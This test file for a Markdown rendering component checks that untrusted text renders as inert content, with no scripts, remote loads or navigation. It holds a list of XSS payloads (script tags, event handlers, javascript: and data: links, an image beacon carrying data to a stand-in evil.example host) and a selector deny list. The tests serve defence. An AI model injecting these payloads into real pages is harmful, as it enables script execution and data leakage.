import { cleanup, fireEvent, screen } from '@testing-library/react';
import { Profiler } from 'react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { createId, documentIdSchema, documentHashSchema, passageIdSchema } from '../../../electron/shared/ids.ts';
import { renderInWords } from '../../testing/render-in-words.tsx';
import * as blocks from './block.ts';
import * as inlineTokens from './inline.ts';
import { Markdown } from './markdown.tsx';

afterEach(cleanup);

const nothing = (): void => undefined;
const show = (text: string) => renderInWords(<Markdown text={text} onOpenLink={nothing} />).container;

const passage = {
  mark: 1,
  score: 0.9,
  passage: {
    id: createId(passageIdSchema),
    documentId: createId(documentIdSchema),
    documentName: 'contract.txt',
    format: 'text' as const,
    place: { documentHash: documentHashSchema.parse('a'.repeat(64)), start: 0, end: 9, lines: { first: 12, last: 20 } },
    headings: [],
    text: 'A passage.',
  },
};

/** Everything that could run, fetch, navigate or dress up as the app. */
const dangerous =
  'script, style, iframe, object, embed, img, image, svg:not(.lucide), video, audio, source, link, meta, base, form, a, area, template, [href], [src], [srcset], [style], [formaction], [ping]';

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=p></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '![x](https://evil.example/pixel.png)',
  '![x](https://evil.example/?q=secret "t")',
  '![x][1]\n\n[1]: https://evil.example/pixel.png',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox)',
  '[x](file:///etc/passwd)',
  '[x](&#106;avascript:alert(1))',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '<https://evil.example/auto>',
  'https://evil.example/bare',
  '`<img src=x>`',
  '```html\n<script>alert(1)</script>\n```',
  '| <img src=x> | b |\n|---|---|\n| <script>x</script> | ![p](https://evil.example) |',
  '> <iframe src=x>',
  '- <object data=x>',
  '# <b onclick=alert(1)>x</b>',
  '<div\nonclick="alert(1)">\n\n**x**\n\n</div>',
  '<!-- <script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '\u202Egpj.exe [x](https://evil.example/\u202E)',
];

describe('Markdown', () => {
  it.each(hostile)('makes nothing that runs, loads or navigates of %j', (text) => {
    const content = show(text);
    expect(content.querySelectorAll(dangerous)).toHaveLength(0);
    const attributes = [...content.querySelectorAll('*')].flatMap((element) => element.getAttributeNames());
    expect(attributes.filter((name) => name.startsWith('on'))).toEqual([]);
  });

  it('shows markup as the text that it is', () => {
    expect(show('Use <b>bold</b> sparingly').textContent).toBe('Use <b>bold</b> sparingly');
  });

  it('asks before a link opens, with its real address', () => {
    const onOpenLink = vi.fn();
    renderInWords(<Markdown text="[bank.example](https://evil.example/login)" onOpenLink={onOpenLink} />);
    fireEvent.click(screen.getByRole('button', { name: 'bank.example' }));
    expect(onOpenLink).toHaveBeenCalledExactlyOnceWith('https://evil.example/login');
  });

  it('offers no button for an address that is neither web nor mail', () => {
    show('[x](file:///etc/passwd) [y](javascript:alert(1))');
    expect(screen.queryAllByRole('button')).toHaveLength(0);
  });

  it('names an image instead of loading it', () => {
    expect(show('![a jar](https://evil.example/jar.png)').textContent).toContain('a jar');
  });

  it('says which tasks of a list are done', () => {
    show('- [x] read\n- [ ] written\n- neither');
    expect(screen.getByRole('checkbox', { name: 'Done' })).toHaveProperty('checked', true);
    expect(screen.getByRole('checkbox', { name: 'Not done yet' })).toHaveProperty('checked', false);
    expect(screen.getAllByRole('checkbox')).toHaveLength(2);
  });

  it('ties the cells of a table to their heads, and lets a wide one scroll by keyboard', () => {
    show('| Name | Size |\n|---|--:|\n| one | 1 |');
    expect(screen.getAllByRole('columnheader').map((cell) => cell.getAttribute('scope'))).toEqual(['col', 'col']);
    expect(screen.getByRole('region', { name: 'Table' }).tabIndex).toBe(0);
  });

  it('shows a footnote and what it says as text', () => {
    expect(show('So it is.[^1]\n\n[^1]: https://example.org').textContent).toContain('[^1]: https://example.org');
  });

  it('makes only the rows, items and lines that are new when a long block grows', () => {
    // Catches a table, list or paragraph that is made anew from its beginning with every word.
    const rows = Array.from({ length: 200 }, (_, index) => `| ${index} | **b** |`).join('\n');
    const items = Array.from({ length: 200 }, (_, index) => `- item **${index}**`).join('\n');
    const lines = Array.from({ length: 900 }, (_, index) => `line **${index}** of a paragraph`).join('\n');
    for (const text of [`| a | b |\n|---|---|\n${rows}`, items, lines]) {
      const { container, rerender } = renderInWords(<Markdown text={text} isGrowing onOpenLink={nothing} />);
      const before = container.querySelectorAll('strong');
      const made = vi.spyOn(inlineTokens, 'inline');
      rerender(<Markdown text={`${text} and more`} isGrowing onOpenLink={nothing} />);
      expect(container.querySelectorAll('strong')[3]).toBe(before[3]);
      expect(made.mock.calls.length).toBeLessThan(40);
      made.mockRestore();
      cleanup();
    }
  });

  it('makes a cited mark a button and leaves every other one as text', () => {
    const onOpenPassage = vi.fn();
    renderInWords(
      <Markdown
        text="So it is. [1] Not this. [7]"
        passages={[passage]}
        onOpenLink={nothing}
        onOpenPassage={onOpenPassage}
      />,
    );
    fireEvent.click(screen.getByRole('button', { name: 'Show passage 1: contract.txt, lines 12–20' }));
    expect(onOpenPassage).toHaveBeenCalledExactlyOnceWith(1);
    expect(screen.getByText(/\[7\]/)).toBeTruthy();
  });

  it('underlines the sentence without support and nothing else', () => {
    const text = '# Title\n\nTrue **and** known. Made *up* here.\n\n- Another one';
    const start = text.indexOf('Made');
    const { container } = renderInWords(
      <Markdown text={text} flaws={[{ start, end: text.indexOf('\n\n- ') }]} onOpenLink={nothing} />,
    );
    const marked = [...container.querySelectorAll('.unsupported')].map((element) => element.textContent);
    expect(marked.join('')).toBe('Made up here.');
  });

  it('does not render finished blocks again when the text grows', () => {
    // Catches the answer that becomes slower with every word: counts what is made, not how long it takes.
    const block = vi.spyOn(blocks, 'block');
    const paragraphs = Array.from({ length: 60 }, (_, index) => `Paragraph **${index}** with words.`);
    const { rerender } = renderInWords(<Markdown text={paragraphs.join('\n\n')} isGrowing onOpenLink={nothing} />);
    block.mockClear();
    for (let step = 1; step <= 40; step += 1) {
      const text = `${paragraphs.join('\n\n')}\n\nLast ${'word '.repeat(step)}`;
      rerender(<Markdown text={text} isGrowing onOpenLink={nothing} />);
    }
    // One new block per step, and those that were still open when the last paragraph began.
    expect(block.mock.calls.length).toBeLessThanOrEqual(40 + 8);
    block.mockRestore();
  });

  it('does not commit anew when neither the text nor its surroundings changed', () => {
    const onRender = vi.fn();
    const element = (
      <Profiler id="markdown" onRender={onRender}>
        <Markdown text="Same." onOpenLink={nothing} />
      </Profiler>
    );
    const { rerender } = renderInWords(element);
    rerender(element);
    expect(onRender).toHaveBeenCalledTimes(1);
  });

  it('shows a text that is nested beyond reason', () => {
    expect(show(`${'>'.repeat(2_000)} deep`).textContent).toContain('deep');
    expect(show(`${'- '.repeat(2_000)}deep`).textContent).toContain('deep');
    expect(show(`${'*'.repeat(3_000)}deep${'*'.repeat(3_000)}`).textContent).toContain('deep');
    expect(show(`${'['.repeat(3_000)}deep${'](x)'.repeat(3_000)}`).textContent).toContain('deep');
  });
});
